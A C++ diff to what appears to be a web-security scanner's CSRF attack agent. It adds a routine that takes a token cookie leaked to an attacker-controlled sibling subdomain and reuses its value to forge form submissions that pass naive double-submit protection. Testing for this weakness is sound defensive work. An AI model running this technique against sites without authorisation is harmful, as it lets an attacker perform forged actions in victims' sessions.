@@ -2,10 +2,13 @@
 // same-site, and he can set cookies for the parent domain: so he gives the victim a token's cookie
 // of his own choice and sends the matching field (naive double submit). Sec-Fetch-Site says
 // "same-site", not "same-origin".
+#include <algorithm>
+
 #include "core/attack/every_agent.h"
 #include "core/attack/lure.h"
 #include "core/attack/own_form.h"
 #include "core/attack/session.h"
+#include "core/attack/stolen.h"
 
 namespace parapet::attack {
 namespace {
@@ -35,8 +38,34 @@ class CsrfSibling final : public Agent {
         target.wait(std::chrono::minutes(3));
         Lure lure(target, *sibling);
         for (Plan const& each : plans) lure.show(submitting(each.form), each.headers);
+        use_what_came_along(target, lure, endpoints, forms);
         target.note("The forged forms came from " + sibling->name() +
                     ", which is the same site as the app.");
+    }
+
+    // A cookie of the whole domain has gone to the sibling's pages, too.
+    static void use_what_came_along(Target& target, Lure& lure,
+                                    std::vector<Endpoint const*> const& endpoints,
+                                    std::vector<OwnForm> const& forms) {
+        if (endpoints.empty() || forms.front().tokens.empty() || lure.host().received().empty())
+            return;
+        OwnForm const& own = forms.front();
+        std::string const header =
+            lure.host().received().front().headers.get("cookie").value_or("");
+        for (Credential const& seen : cookies_in(header)) {
+            http::QueryPair const cookie{seen.name, seen.value};
+            bool const has_one = std::any_of(
+                own.cookies.begin(), own.cookies.end(), [&](http::QueryPair const& each) {
+                    return each.name == cookie.name && !is_session(own, each);
+                });
+            if (!has_one) continue;
+            Plan plan = plain(target, *endpoints.front());
+            for (http::QueryPair const& token : own.tokens)
+                plan.form.fields.push_back({token.name, cookie.value});
+            lure.show(submitting(plan.form));
+            target.note("The cookie \"" + cookie.name + "\" came to " + lure.host().name() +
+                        " as well, and with it the token.");
+        }
     }
 
     struct Plan {
